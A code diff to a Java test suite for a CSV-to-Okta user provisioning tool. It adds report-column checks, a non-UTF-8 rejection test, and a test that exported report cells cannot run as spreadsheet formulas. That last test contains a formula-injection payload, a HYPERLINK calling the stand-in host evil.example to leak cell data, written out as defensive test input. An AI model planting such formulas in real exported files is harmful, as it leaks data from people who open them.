@@ -21,6 +21,7 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.tuple;
 import static org.awaitility.Awaitility.await;
 
 /**
@@ -53,17 +54,17 @@ class CsvProvisioningTest {
         await().atMost(PROCESSED).until(() -> Files.exists(app.folder("done/team.csv")));
 
         assertThat(reportRows("team-report.csv")).containsExactly(
-                List.of("1", "ada@example.com", "created", userId("ada@example.com"), ""),
-                List.of("2", "alan@example.com", "created", userId("alan@example.com"), ""),
+                List.of("1", "ada@example.com", "created", userId("ada@example.com"), "", ""),
+                List.of("2", "alan@example.com", "created", userId("alan@example.com"), "", ""),
                 List.of("3", "grace@example.com", "failed", "", "HTTP 400 E0000001 Api validation failed: login "
-                        + "(login: An object with this field already exists in the current organization)"),
-                List.of("4", "robin@example.com", "failed", "", "missing last_name"),
+                        + "(login: An object with this field already exists in the current organization)", ""),
+                List.of("4", "robin@example.com", "failed", "", "missing last_name", ""),
                 List.of("5", "tony@example.com", "failed", "",
-                        "invalid email 'tony.example.com': expected an address such as ada@example.com"),
-                List.of("6", "karen@example.com", "failed", "", "wrong column count: 5 values for the 7 columns of the header"),
-                List.of("7", "carl@example.com", "failed", "", "wrong column count: 8 values for the 7 columns of the header"),
-                List.of("8", "edsger@example.com", "failed", "", "invalid activate 'maybe': use true or false, or leave it empty"),
-                List.of("9", "barbara@example.com", "created", userId("barbara@example.com"), ""));
+                        "invalid email 'tony.example.com': expected an address such as ada@example.com", ""),
+                List.of("6", "karen@example.com", "failed", "", "wrong column count: 5 values for the 7 columns of the header", ""),
+                List.of("7", "carl@example.com", "failed", "", "wrong column count: 8 values for the 7 columns of the header", ""),
+                List.of("8", "edsger@example.com", "failed", "", "invalid activate 'maybe': use true or false, or leave it empty", ""),
+                List.of("9", "barbara@example.com", "created", userId("barbara@example.com"), "", ""));
         assertThat(app.folder("inbox/team.csv")).doesNotExist();
         assertThat(user("ada@example.com").profileText("mobilePhone")).isEqualTo("+44 20 7946 0001");
         assertThat(user("alan@example.com").status()).isEqualTo(UserStatus.STAGED);
@@ -93,8 +94,43 @@ class CsvProvisioningTest {
         await().atMost(PROCESSED).until(() -> Files.exists(app.folder("error/broken.csv")));
 
         assertThat(reportRows("broken-report.csv")).containsExactly(
-                List.of("1", "linus@example.com", "created", userId("linus@example.com"), ""));
+                List.of("1", "linus@example.com", "created", userId("linus@example.com"), "", ""));
         assertThat(app.okta().findByLogin("never@example.com")).isEmpty();
+    }
+
+    @Test
+    void aFileThatIsNotUtf8GoesToErrorWithoutTouchingOktaWhereverTheBadByteIs() throws IOException {
+        StringBuilder rows = new StringBuilder(HEADER);
+        for (int row = 1; row <= 300; row++) { // far more than a decoder reads ahead of the parser
+            rows.append("User,Number").append(row).append(",user").append(row).append("@example.com,user").append(row)
+                    .append("@example.com,,,\n");
+        }
+        rows.append("José,García,jose@example.com,jose@example.com,,,\n");
+        long requestsBefore = app.okta().counters().totalRequests();
+
+        app.drop("latin1.csv", rows.toString().getBytes(StandardCharsets.ISO_8859_1));
+
+        await().atMost(PROCESSED).until(() -> Files.exists(app.folder("error/latin1.csv")));
+        assertThat(app.folder("outbox/latin1-report.csv")).doesNotExist();
+        assertThat(app.okta().counters().totalRequests()).isEqualTo(requestsBefore);
+        assertThat(app.okta().findByLogin("user1@example.com")).isEmpty();
+    }
+
+    @Test
+    void noCellOfTheReportCanRunAsASpreadsheetFormula() throws IOException {
+        app.drop("formulas.csv", HEADER
+                                 + "Eve,Formula,eve.example.com,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",,,\n"
+                                 + "Sum,Formula,sum.example.com,@SUM(A1:A9),,,\n"
+                                 + "Plus,Formula,plus.example.com,+1 555 0100,,,\n"
+                                 + "Minus,Formula,minus.example.com,-1,,,\n");
+
+        await().atMost(PROCESSED).until(() -> Files.exists(app.folder("done/formulas.csv")));
+
+        String note = "prefixed with ' so that a spreadsheet shows text, not a formula: login";
+        assertThat(reportRows("formulas-report.csv")).extracting(row -> row.get(1), row -> row.get(5)).containsExactly(
+                tuple("'=HYPERLINK(\"http://evil.example/?\"&A1)", note), tuple("'@SUM(A1:A9)", note),
+                tuple("'+1 555 0100", note), tuple("'-1", note));
+        assertThat(Files.readString(app.folder("outbox/formulas-report.csv"))).contains("\n2,\"'@SUM(A1:A9)\",failed,");
     }
 
     private static byte[] unreadable(String fileName) {
